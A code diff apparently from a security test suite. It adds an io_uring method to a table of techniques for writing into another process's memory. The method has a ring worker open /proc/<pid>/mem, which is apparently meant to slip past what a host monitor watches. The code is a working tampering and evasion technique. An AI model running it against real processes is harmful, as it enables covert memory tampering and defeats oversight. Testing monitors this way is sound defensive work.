@@ -8,17 +8,21 @@
  * which it reaches what the host will look at.
  */
 #include <fcntl.h>
+#include <sched.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/eventfd.h>
 #include <sys/ioctl.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack/snoop.h"
+#include "common/ring.h"
 #include "fixture/fixture.h"
 
 static struct snoop_target target;
@@ -70,6 +74,52 @@ static int by_mem(void)
 	       pwrite(fd, &word, sizeof(word), target.address) != sizeof(word);
 }
 
+/* Workers of a ring run where its task runs, and not before that sleeps. */
+static bool run_after_me(const struct ring *ring)
+{
+	struct sched_param first = { .sched_priority = 1 };
+	cpu_set_t one;
+
+	CPU_ZERO(&one);
+	CPU_SET(0, &one);
+	return !sched_setaffinity(0, sizeof(one), &one) &&
+	       !sched_setscheduler(0, SCHED_FIFO, &first) &&
+	       !syscall(SYS_io_uring_register, ring->fd, IORING_REGISTER_IOWQ_AFF,
+			&one, sizeof(one));
+}
+
+/*
+ * By a worker of a ring's that looks as if it read a file: it has the registers of the
+ * call in which its task makes it.  That is a read(), since the ring needs a second worker
+ * once the first has fallen asleep.
+ */
+static int by_worker(void)
+{
+	struct io_uring_sqe requests[2] = {
+		{ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .flags = IOSQE_ASYNC,
+		  .addr = (unsigned long)"/tmp/fifo" },
+		/* A path nobody has gone before; what asks for a worker gets one. */
+		{ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
+		  .open_flags = O_RDWR },
+	};
+	int fd, done = eventfd(0, EFD_CLOEXEC);
+	char path[64];
+	struct ring ring;
+	uint64_t count;
+
+	snprintf(path, sizeof(path), "/proc/%d/mem", target.pid);
+	if (done < 0 || mkfifo("/tmp/fifo", 0600) || !ring_open(&ring, 0) || !run_after_me(&ring) ||
+	    syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_EVENTFD, &done, 1))
+		return 1;
+	requests[1].addr = (unsigned long)path;
+	if (!ring_submit_both(&ring, requests) ||
+	    read(done, &count, sizeof(count)) != sizeof(count))
+		return 1;
+	fd = ring_result(&ring);
+	return fd < 0 ||
+	       pwrite(fd, &word, sizeof(word), target.address) != sizeof(word);
+}
+
 static int by_getfd(void)
 {
 	int pidfd = syscall(SYS_pidfd_open, target.pid, 0);
@@ -109,6 +159,7 @@ static const struct {
 	{ "ptrace", by_ptrace },
 	{ "process_vm_writev", by_vm_write },
 	{ "mem", by_mem },
+	{ "io_uring", by_worker },
 	{ "pidfd_getfd", by_getfd },
 	{ "disguise", by_disguise },
 	{ "reading", by_reading },
